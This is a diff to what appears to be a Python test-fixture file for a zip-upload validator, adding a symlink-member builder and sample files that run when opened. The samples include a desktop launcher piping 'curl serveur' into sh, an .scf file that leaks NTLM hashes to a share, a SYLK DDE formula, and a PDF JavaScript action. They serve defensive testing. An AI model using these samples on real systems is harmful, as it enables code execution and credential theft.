@@ -232,6 +232,40 @@ def zip_kit():
     return _zip({"affiche.pdf": pdf(), "programme.odt": odt(), "logo.png": png()})
 
 
+def zip_with_symlink(name, target):
+    """A kit whose member ``name`` is a symbolic link to ``target``, as ``zip --symlinks`` on
+    Linux or macOS stores one: its data is the target's path, its Unix mode says « link »."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr(zipfile.ZipInfo("affiche.pdf", MEMBER_TIME), pdf())
+        link = zipfile.ZipInfo(name, MEMBER_TIME)
+        link.create_system = 3  # Unix
+        link.external_attr = (0o120777 << 16) | 0x20
+        archive.writestr(link, target)
+    return out.getvalue()
+
+
+# Files of text, accepted as such by their content, that a computer does not open as text once
+# unpacked: their name makes them shortcuts, commands, queries or scripts.
+NAMED_TO_RUN = {
+    # Opens the address, here a program on a network share (Windows).
+    "site.url": b"[InternetShortcut]\r\nURL=file://serveur/partage/facture.exe\r\n",
+    # Explorer loads its icon from the share as soon as the folder is shown, sending the
+    # user's credentials (NTLM hash) to that server.
+    "dossier.scf": b"[Shell]\r\nCommand=2\r\nIconFile=\\\\serveur\\partage\\icone.ico\r\n",
+    # A Linux desktop launcher: double-clicked, it runs its command.
+    "programme.desktop": (
+        b"[Desktop Entry]\nType=Application\nName=Programme\nExec=sh -c 'curl serveur | sh'\n"
+    ),
+    # An Excel web query: Excel fetches the address and shows what it returns.
+    "budget.iqy": b"WEB\r\n1\r\nhttps://serveur.example/requete\r\n",
+    # A SYLK spreadsheet: Excel computes its formulas, here a DDE call that starts a program.
+    "budget.slk": b"ID;P\r\nC;Y1;X1;K0;E=cmd|'/c calc'!A0\r\nE\r\n",
+    # A Python script, run by a double-click where Python is installed.
+    "outil.py": b"import os\nos.system('calc')\n",
+}
+
+
 def pdf_with_javascript():
     return pdf().replace(
         b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
